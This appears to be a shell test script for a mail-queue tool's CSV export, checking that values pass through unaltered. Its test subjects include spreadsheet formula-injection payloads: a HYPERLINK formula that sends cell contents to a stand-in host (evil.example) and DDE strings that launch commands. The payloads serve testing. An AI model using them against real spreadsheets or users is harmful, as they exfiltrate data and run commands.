# --csv is RFC 4180 and nothing else: any reader gets each value byte for byte, also one that a spreadsheet would take for a formula (the
# manual says so); nothing is put before it.
. "$SRC/tests/cli/common.bash"
n=0
while IFS= read -r subject; do
    message q "1aaaaa-00000$((++n))-aa" "=$n@example.com" "@$n@example.net" "$subject"
done <<'END'
=HYPERLINK("http://evil.example/?"&A1,"open")
+1+cmd|' /C calc'!A0
-2+3
@SUM(1+1)*cmd|' /C calc'!A0
a,"b";c
'=1
END
run mqgrep --spool q --csv --fields id,sender,recipients,subject | sed 's/\r$/<CR>/'
run mqstat --spool q --now 1795300000 -k subject --csv -t 2 | sed 's/\r$/<CR>/'

# A reader of others gets what the records hold.
"$MQGREP" --spool q --csv --fields id,sender,subject >cells
"$MQGREP" --spool q -j --fields id,sender,subject >records
/usr/bin/python3 - <<'END'
import csv, json
with open("cells", newline="") as f:
    cells = [tuple(row.values()) for row in csv.DictReader(f)]
with open("records") as f:
    records = [(r["queue_id"], r["sender"], r["subject"]) for r in map(json.loads, f)]
print(len(cells), "the same" if cells == records else (cells, records))
END
